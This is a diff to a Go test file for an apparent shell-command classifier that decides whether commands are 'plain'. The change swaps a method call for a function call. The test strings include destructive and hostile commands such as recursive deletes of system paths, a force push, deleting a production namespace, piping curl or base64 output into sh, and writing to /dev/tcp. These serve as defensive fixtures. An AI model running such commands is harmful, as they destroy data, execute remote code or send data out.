@@ -7,7 +7,7 @@ func TestPlainTextMeansTheSameInItsFolder(t *testing.T) {
 		"rm -r build", "rm -r ./build /etc/x ~/y $HOME/z", "/bin/rm -r build", "rm -r build && ls", "rm -r a; rm -r b || echo no", "'rm' -r \"build\"",
 		"git push --force origin main", "cat a | grep b | sort", "make_it > out 2>&1 < in", "kubectl delete ns prod", "if test -d a; then rm -r a; fi", "! rm -r {a,b}",
 	} {
-		if !Shell(text, work).Plain() {
+		if !Plain(Shell(text, work)) {
 			t.Errorf("%s is not plain", text)
 		}
 	}
@@ -30,7 +30,7 @@ func TestWhatCanMeanAnotherThingInTheSameFolderIsNotPlain(t *testing.T) {
 		"another course":    {"(rm -r build)", "for x in build; do rm -r $x; done", "while :; do rm -r build; done", "rm -r build &", "coproc rm -r build", "$X build", "rm -r build; eval \"$X\"", "curl x.test | sh", "echo bHM= | base64 -d | sh", "rm -r (", "echo x > /dev/tcp/x.test/80"},
 	}) {
 		for _, text := range texts {
-			if Shell(text, work).Plain() {
+			if Plain(Shell(text, work)) {
 				t.Errorf("%s is plain, in spite of %s", text, evasion)
 			}
 		}
